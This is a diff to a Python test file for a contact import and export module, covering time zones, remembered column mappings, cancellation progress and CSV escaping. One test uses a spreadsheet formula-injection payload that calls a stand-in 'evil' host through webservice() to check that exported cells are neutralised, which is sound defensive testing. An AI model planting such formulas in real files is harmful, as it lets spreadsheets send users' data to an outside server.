@@ -14,6 +14,7 @@ from hypothesis import strategies as st
 
 from dialer_gui.domain.contact_import import Field, FileProblem, ReadFile, ReadProblem
 from dialer_gui.domain.contacts import Contact, ContactNumber, NumberReader
+from dialer_gui.domain.vcards import read_cards
 from dialer_gui.storage.contact_files import (
     ContactFileError,
     ReadingCancelled,
@@ -21,7 +22,6 @@ from dialer_gui.storage.contact_files import (
     read_contacts,
     write_contacts,
 )
-from dialer_gui.storage.vcards import read_cards
 from tests.storage.contact_corpus import CARDS, TABLES, CorpusFile
 
 READER = NumberReader("DE", ("8001",))
@@ -61,6 +61,14 @@ def test_what_is_no_number_is_in_the_note(name: str, text: str, tmp_path: Path) 
     path = tmp_path / name
     path.write_bytes(next(each.data for each in (*CARDS, *TABLES) if each.name == name))
     assert read(path).contacts[0].note == text
+
+
+def test_a_time_zone_that_nobody_knows_is_in_the_note(tmp_path: Path) -> None:
+    path = tmp_path / "people.csv"
+    path.write_text("Name,Time zone\nAnna,Europe/Berlin\nBudi,Mars/Olympus\n")
+    anna, budi = read(path).contacts
+    assert (anna.time_zone, anna.note) == ("Europe/Berlin", "")
+    assert (budi.time_zone, budi.note) == ("", "Time zone: Mars/Olympus")
 
 
 @pytest.mark.parametrize(
@@ -171,6 +179,8 @@ def test_a_person_says_what_the_columns_hold_and_that_is_remembered(tmp_path: Pa
     found = read(path, remembered=lambda headings: remembered.get(headings, ()))
     assert found.fields == tuple(map(Field, mapping))
     assert written(found.contacts[0]) == "Anna Weber|+49301234567"
+    newer = read(path, remembered=lambda _: ("name", "of a newer version"))
+    assert newer.fields == read(path).fields
 
 
 def test_reading_can_be_cancelled(tmp_path: Path) -> None:
@@ -183,7 +193,7 @@ def test_reading_can_be_cancelled(tmp_path: Path) -> None:
             progressed=lambda done, total: told.append((done, total)),
             is_cancelled=lambda: len(told) == 2,
         )
-    assert told == [(500, 2000), (1000, 2000)]
+    assert told == [(10, 2000), (20, 2000)]
 
 
 TEXTS = st.text(st.characters(exclude_categories=("C", "Z")) | st.just(" "), max_size=12).map(
@@ -208,7 +218,7 @@ CONTACTS = st.lists(
         note=st.lists(TEXTS.filter(bool), max_size=2).map("\n".join),
         customer_id=TEXTS | st.from_regex(r"0[0-9]{3,6}", fullmatch=True),
         member_id=TEXTS,
-        time_zone=st.sampled_from(["", "Europe/Berlin"]),
+        time_zone=st.sampled_from(["", "Europe/Berlin", "UTC", "Etc/GMT-5"]),
         is_favourite=st.booleans(),
         uid=st.sampled_from(["", "urn:uuid:4fbe8971", "a;b,c\\d"]),
     ),
@@ -231,23 +241,26 @@ def test_what_goes_out_comes_back_the_same(
 
 
 def test_a_spreadsheet_leaves_plus_and_leading_zeros_alone(tmp_path: Path) -> None:
-    """What is a formula for text to a spreadsheet stays text when it is saved again."""
+    """Nothing in it is a formula, and it stays so when a spreadsheet saves it again."""
     path = tmp_path / "out.csv"
-    numbers = (ContactNumber("+49301234567", "work"), ContactNumber("0815", "=cmd"))
+    formula = '="x"&webservice("http://evil/")'
+    numbers = (ContactNumber("+49301234567", "work"), ContactNumber("0815", formula))
     write_contacts(path, [Contact("1", "=HYPERLINK(1)", numbers=numbers, customer_id="007")], ",")
     data = path.read_bytes()
     assert data.startswith(b"\xef\xbb\xbf")
     (_, row) = csv.reader(io.StringIO(data.decode("utf-8-sig")))
-    assert row[:6] == ["'=HYPERLINK(1)", "", "work", '="+49301234567"', "'=cmd", '="0815"']
-    assert not [cell for cell in row if cell[:1] in "+-@" and cell]
-    # A spreadsheet shows the texts of the formulas, and saves what it shows.
-    saved = io.StringIO()
-    as_saved = [cell[2:-1] if cell.startswith('="') else cell for cell in row]
-    csv.writer(saved).writerows([data.decode("utf-8-sig").splitlines()[0].split(","), as_saved])
-    path.write_text(saved.getvalue())
-    (contact,) = read(path).contacts
-    assert (contact.name, contact.customer_id) == ("=HYPERLINK(1)", "007")
-    assert contact.numbers == (ContactNumber("+49301234567", "work"), ContactNumber("0815", "=cmd"))
+    assert row[:6] == ["'=HYPERLINK(1)", "", "work", "'+49301234567", f"'{formula}", "'0815"]
+    assert not [cell for cell in row if cell[:1] in "=+-@" and cell]
+    # An earlier version wrote numbers as formulas for text. A spreadsheet saves what these show.
+    before = [f'="{cell[1:]}"' if cell[1:].lstrip("+").isdigit() else cell for cell in row]
+    shown = [cell[2:-1] if cell.startswith('="') else cell for cell in before]
+    for table in (row, before, shown):
+        saved = io.StringIO()
+        csv.writer(saved).writerows([data.decode("utf-8-sig").splitlines()[0].split(","), table])
+        path.write_text(saved.getvalue())
+        (contact,) = read(path).contacts
+        assert (contact.name, contact.customer_id) == ("=HYPERLINK(1)", "007")
+        assert contact.numbers == numbers
 
 
 @given(text=st.text(max_size=200), lines=st.lists(st.text('",;\n\r ab0', max_size=12), max_size=12))
